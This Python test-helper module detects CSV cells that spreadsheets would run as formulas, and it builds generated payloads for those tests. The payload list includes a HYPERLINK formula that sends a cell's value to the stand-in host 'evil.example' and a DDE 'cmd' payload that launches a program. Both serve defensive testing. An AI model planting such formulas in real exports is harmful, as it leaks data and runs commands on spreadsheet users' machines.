"""How spreadsheets read a CSV file, to find the cells they would run as formulas.

Written apart from ``home.csv_guard`` (its own list of what starts a formula) so
that the tests check the files, not the guard against itself. A file is read
the ways a spreadsheet may read it: with "," (the file's own separator), ";"
(Excel in French, Spanish or Russian) or a tab as the separator, honouring the
double quotes or, as a naive import does, splitting lines and separators
blindly.
"""

import csv
import io
import re

from home.csv_guard import unguard

DELIMITERS = ",;\t"
FORMULA_STARTS = "=+-@\uff1d\uff0b\uff0d\uff20"
# Passed over before the first character that counts, with any white space:
# the tab and the carriage return OWASP lists hide what follows them.
INVISIBLE = '"\u200b\u200c\u200d\u200e\u200f\u2060\ufeff'
NUMBER = re.compile(r"[-+]?(\d+\.?\d*|\.\d+)([eE][-+]?\d+)?")

# Pieces of generated payloads: what starts formulas, the separators readers
# split on, blanks, quotes and the guard's own apostrophe, and formulas.
FORMULA_PIECES = [
    "=",
    "+",
    "-",
    "@",
    "\t",
    "\r",
    "\n",
    "\r\n",
    ",",
    ";",
    " ",
    "\u00a0",
    "\u3000",
    '"',
    "'",
    "''",
    "\uff1d",
    "\uff0d",
    "\u200b",
    "\ufeff",
    'HYPERLINK("http://evil.example/?d="&A1,"Details")',
    "cmd|' /C calc'!A0",
    "SUM(1+1)",
    "1",
    "x",
]


def body(response):
    content = (
        b"".join(response.streaming_content)
        if getattr(response, "streaming", False)
        else response.content
    )
    return content.decode("utf-8").removeprefix("\ufeff")


def rows(text):
    """The rows of ``text`` as the file means them (",", double quotes)."""
    return list(csv.reader(io.StringIO(text, newline="")))


def readings(text):
    """Every cell of ``text``, read every way a spreadsheet may read it."""
    for delimiter in DELIMITERS:
        reader = csv.reader(io.StringIO(text, newline=""), delimiter=delimiter)
        for row in reader:
            yield from row
        for line in re.split(r"\r\n|\r|\n", text):
            yield from line.split(delimiter)


def runs_as_formula(cell):
    start = 0
    while start < len(cell) and (cell[start] in INVISIBLE or cell[start].isspace()):
        start += 1
    rest = cell[start:]
    return rest[:1] in set(FORMULA_STARTS) and not NUMBER.fullmatch(rest.strip())


def formula_cells(text):
    return [cell for cell in readings(text) if runs_as_formula(cell)]


def assert_no_formula(text):
    cells = formula_cells(text)
    assert not cells, f"cells a spreadsheet runs as formulas: {cells[:5]!r}"


def exported_values(text):
    """Every cell of the file with the guard taken off: what was exported."""
    return {unguard(cell) for row in rows(text) for cell in row}
